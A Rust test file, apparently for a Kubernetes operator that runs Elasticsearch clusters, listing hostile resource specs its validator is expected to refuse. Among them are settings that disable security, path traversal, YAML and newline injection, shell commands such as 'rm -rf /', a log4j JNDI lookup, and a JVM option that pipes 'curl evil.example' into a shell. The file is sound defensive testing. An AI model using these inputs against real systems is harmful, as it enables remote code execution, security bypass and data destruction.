//! Hostile SearchCells: settings, names, options of Java, sizes.

use serde_json::{Value, json};

use super::pods::template;
use super::{Attack, Expect, On, attack, cell, merged};

pub fn attacks() -> Vec<Attack> {
    let mut all = Vec::new();
    settings(&mut all);
    values(&mut all);
    names(&mut all);
    java(&mut all);
    sizes(&mut all);
    all
}

/// Out of the configuration folder, and around what the operator sets.
fn settings(all: &mut Vec<Attack>) {
    for (key, value) in [
        ("path.data", json!("/")),
        ("path.logs", json!("/usr/share/elasticsearch/config")),
        ("path.conf", json!("/tmp")),
        ("path.shared_data", json!("/")),
        ("path.repo", json!("/usr/share/elasticsearch/config")),
        ("path.repo", json!(["/snapshots", "/snapshots/../usr/share/elasticsearch/data"])),
        ("path.repo.0", json!("relative")),
        ("node.pidfile", json!("/usr/share/elasticsearch/config/users")),
        ("xpack.security.enabled", json!(false)),
        ("xpack.security.authc.anonymous.roles", json!("superuser")),
        ("xpack.security.http.ssl.enabled", json!(false)),
        ("xpack.security.authc.realms.file.file1.order", json!(0)),
        ("cluster.name", json!("another")),
        ("cluster.initial_master_nodes", json!(["x"])),
        ("discovery.seed_hosts", json!(["another.tenant.svc"])),
        ("discovery.type", json!("single-node")),
        ("node.name", json!("guilds-a-master-a-0")),
        ("node.roles", json!(["master", "data"])),
        ("node.id.seed", json!(1)),
        ("network.host", json!("127.0.0.1")),
        ("http.port", json!(9300)),
        ("transport.profiles.client.port", json!(9999)),
        ("transport.type", json!("netty4")),
        ("remote_cluster_server.enabled", json!(true)),
        ("bootstrap.system_call_filter", json!(false)),
        ("readiness.port", json!(9999)),
        ("cluster.metadata.searchcell.settings", json!("")),
    ] {
        let name = format!("setting {key} = {value}");
        all.push(attack(On::Cell, &name, json!({"settings": {key: value}}), "spec.settings["));
    }
    for (name, spec) in [
        ("nested", json!({"settings": {"xpack": {"security": {"enabled": false}}}})),
        ("half nested", json!({"settings": {"xpack.security": {"enabled": false}}})),
        ("by list index", json!({"nodes": {"data": {"settings": {"node.roles.0": "master"}}}})),
        ("of one role", json!({"nodes": {"ingest": {"settings": {"path": {"data": "/"}}}}})),
        ("through the API", json!({"clusterSettings": {"xpack.security.transport.filter.enabled": false}})),
        (
            "allocation through the API",
            json!({"clusterSettings": {"cluster.routing.allocation.exclude._name": "*"}}),
        ),
        ("twice, nested and dotted", json!({"settings": {"a": {"b": 1}, "a.b": 2}})),
    ] {
        all.push(attack(On::Cell, &format!("setting {name}"), spec, "ettings["));
    }
}

/// Lines, quotes and variables in keys and values.
fn values(all: &mut Vec<Attack>) {
    let data = |key: &str, value: Value| json!({"nodes": {"data": {"settings": {key: value}}}});
    for (name, key, value) in [
        ("newline in a value", "node.attr.x", json!("a\nxpack.security.enabled: false")),
        ("carriage return in a value", "node.attr.x", json!("a\rxpack.security.enabled: false")),
        ("next line of YAML 1.1 in a value", "node.attr.x", json!("a\u{85}b: c")),
        ("line separator in a value", "node.attr.x", json!("a\u{2028}b: c")),
        ("reordered text in a value", "node.attr.x", json!("a\u{202e}b")),
        ("zero byte in a value", "node.attr.x", json!("a\0b")),
        ("escape sequence in a value", "node.attr.x", json!("\u{1b}[2J")),
        ("hidden text in a list", "node.attr.x", json!(["a", "b\u{200b}"])),
        ("newline in a key", "node.attr.x\nxpack.security.enabled", json!("false")),
        ("colon in a key", "node.attr.x: 1, xpack.security.enabled", json!("false")),
        ("colon without a space in a key", "node.attr.x:y", json!("false")),
        ("quote in a key", "\"node.attr.x", json!("a")),
        ("comment in a key", "#node.attr.x", json!("a")),
        ("letters that look like others in a key", "n\u{43e}de.roles", json!("a")),
        ("wildcard in a key", "xpack.*", json!("a")),
        ("variable of the operator", "node.attr.x", json!("${ELASTIC_PASSWORD}")),
        ("variable with a default", "node.attr.x", json!("${HOME:x}")),
        ("variable in a variable", "node.attr.x", json!("${${POD_NAME}}")),
        ("variable in a list", "node.attr.x", json!(["a", "${PATH}"])),
        ("variable without an end", "node.attr.x", json!("${POD_NAME")),
        ("prompt", "node.attr.x", json!("${prompt.secret}")),
    ] {
        all.push(attack(On::Cell, name, data(key, value), "spec.nodes.data.settings["));
    }
    let in_common = json!({"settings": {"node.attr.x": "${SECRET}"}});
    all.push(attack(On::Cell, "variable in settings of all nodes", in_common, "spec.settings["));
    for (name, value) in [
        ("quotes and braces", json!("\"}\", {a: [b]} # c")),
        ("a tag of YAML", json!("!!javax.script.ScriptEngineManager [x]")),
        ("an anchor and an alias", json!("&a *a <<: *a")),
        ("a document of its own", json!("--- a ... b")),
        ("a folded text", json!("> a | b")),
        ("commands of a shell", json!("$(touch /tmp/x) `id` ; rm -rf / && true")),
        ("commands between apostrophes", json!("'; touch /tmp/x; '")),
        ("a format of printf", json!("%s%n %x")),
        ("a lookup of log4j", json!("${POD_NAME} jndi:ldap://x/a")),
        ("letters beyond ASCII", json!("Grüße 🙂 日本語")),
    ] {
        all.push(attack(On::Cell, &format!("value with {name}"), data("node.attr.x", value), ""));
    }
}

/// Names go into object names, labels, URLs and files.
fn names(all: &mut Vec<Attack>) {
    for (name, spec, refused) in [
        ("zone with a path", json!({"zones": [{"name": "../a"}]}), "spec.zones["),
        ("zone with a line", json!({"zones": [{"name": "a\nb", "value": "a"}]}), "spec.zones["),
        ("zone with an expression", json!({"zones": [{"name": "${POD_IP}", "value": "a"}]}), "spec.zones["),
        ("zone value with a comma", json!({"zones": [{"name": "a", "value": "a,b"}]}), "spec.zones["),
        ("zone of another alphabet", json!({"zones": [{"name": "\u{430}", "value": "a"}]}), "spec.zones["),
        ("cluster with a path", json!({"clusters": [{"name": "../x"}]}), "spec.clusters["),
        ("cluster with a host", json!({"clusters": [{"name": "a.evil.example/"}]}), "spec.clusters["),
        ("cluster with credentials", json!({"clusters": [{"name": "x@evil"}]}), "spec.clusters["),
        ("cluster with a dash", json!({"clusters": [{"name": "a-data"}]}), "spec.clusters["),
        ("cluster that is a Service", json!({"clusters": [{"name": "transport"}]}), "spec.clusters["),
        ("version with a path", json!({"version": "9.5.3/../x"}), "spec.version"),
        ("version with a tag", json!({"version": "9.5.3@sha256:0"}), "spec.version"),
        ("image with an option", json!({"image": "--privileged"}), "spec.image"),
        ("image with a command", json!({"image": "x;id"}), "spec.image"),
        ("image with a scheme", json!({"image": "file:///etc/passwd"}), "spec.image"),
        ("topology key with a selector", json!({"topologyKey": "a in (b)"}), "spec.topologyKey"),
        (
            "storage class with a path",
            json!({"nodes": {"data": {"storage": {"size": "1Gi", "storageClassName": "../x"}}}}),
            "storageClassName",
        ),
        (
            "resource with a line",
            json!({"nodes": {"data": {"resources": {"limits": {"cpu\n": "1"}}}}}),
            "resources.limits[",
        ),
    ] {
        all.push(attack(On::Cell, name, spec, refused));
    }
    for name in ["a/../../b", "a%2f..", "a\u{202e}b", "-a", "a.b", "A"] {
        let object = merged(cell(), &json!({"metadata": {"name": name}}));
        let expect = Expect::Refused("metadata.name".to_owned());
        all.push(Attack { name: format!("cell named {name:?}"), on: On::Cell, object, expect });
    }
}

fn java(all: &mut Vec<Attack>) {
    for option in [
        "-XX:OnOutOfMemoryError=curl evil.example|sh",
        "-XX:OnOutOfMemoryError=/tmp/x",
        "-XX:OnError=gcore",
        "-XX:+UseG1GC\n-XX:OnError=x",
        "-javaagent:/tmp/x.jar",
        "-agentpath:/tmp/x.so",
        "-agentlib:jdwp=transport=dt_socket,server=y,address=*:5005",
        "-Xrunjdwp:server=y",
        "-Xbootclasspath/a:/tmp/x.jar",
        "@/usr/share/elasticsearch/config/options",
        "-XX:VMOptionsFile=x",
        "-XX:Flags=x",
        "-XX:HeapDumpPath=/usr/share/elasticsearch/config/users",
        "-Xlog:all:file=/usr/share/elasticsearch/config/roles.yml",
        "-Xlog:all:config/roles.yml",
        "-Dcom.sun.management.jmxremote.port=9999",
        "-Djava.security.manager=allow",
        "-Djava.security.properties=/tmp/x",
        "-Dlog4j2.formatMsgNoLookups=false",
        "-Dlog4j2.configurationFile=http://evil.example/x.xml",
        "-Des.path.conf=/tmp",
        "-Djava.io.tmpdir=/usr/share/elasticsearch/config",
        "-Djavax.net.debug=all",
        "--patch-module=java.base=/tmp",
        "8-99:-javaagent:/tmp/x.jar",
        "-Xmx100g",
        "-cp",
    ] {
        let spec = json!({"nodes": {"data": {"jvmOptions": [option]}}});
        all.push(attack(On::Cell, &format!("jvm option {option:?}"), spec, "spec.nodes.data.jvmOptions[0]"));
    }
    let tuned = json!({"nodes": {"data": {"jvmOptions": ["21:-XX:+UseZGC", "-Dmy.name=$(id)`id`"]}}});
    all.push(attack(On::Cell, "jvm option with a shell's words", tuned, ""));
}

fn sizes(all: &mut Vec<Attack>) {
    let many: serde_json::Map<String, Value> =
        (0..2000).map(|n| (format!("node.attr.a{n}"), json!("x".repeat(100)))).collect();
    let options: Vec<String> = (0..100).map(|n| format!("-Da{n}=1")).collect();
    let mut deep = json!("x");
    for _ in 0..100 {
        deep = json!({"a": deep});
    }
    for (name, spec, refused) in [
        ("2000 settings", json!({"settings": many}), "128 KiB"),
        ("a setting of a megabyte", json!({"settings": {"node.attr.x": "x".repeat(1 << 20)}}), "16 KiB"),
        ("a key of a kilobyte", json!({"settings": {"a".repeat(1024): 1}}), "256 bytes"),
        ("a list of 5000", json!({"settings": {"node.attr.x": vec!["x"; 5000]}}), "1024 elements"),
        ("cluster settings of a megabyte", json!({"clusterSettings": many}), "128 KiB"),
        ("a hundred options", json!({"nodes": {"data": {"jvmOptions": options}}}), "32"),
        (
            "a long option",
            json!({"nodes": {"data": {"jvmOptions": [format!("-D{}", "x".repeat(4096))]}}}),
            "512 bytes",
        ),
        (
            "a template of a megabyte",
            template(json!({"metadata": {"annotations": {"a": "x".repeat(1 << 20)}}})),
            "64 KiB",
        ),
        // To Elasticsearch it is a long name, and it is one in the file.
        ("a deep setting", json!({"settings": {"a": deep}}), ""),
        ("a thousand nodes in each zone", json!({"nodes": {"data": {"perZone": 1000}}}), "perZone"),
        ("an exabyte", json!({"nodes": {"data": {"storage": {"size": "1Ei"}}}}), "storage.size"),
        (
            "a long quantity",
            json!({"nodes": {"data": {"storage": {"size": "9".repeat(5000)}}}}),
            "storage.size",
        ),
    ] {
        all.push(attack(On::Cell, name, spec, refused));
    }
}
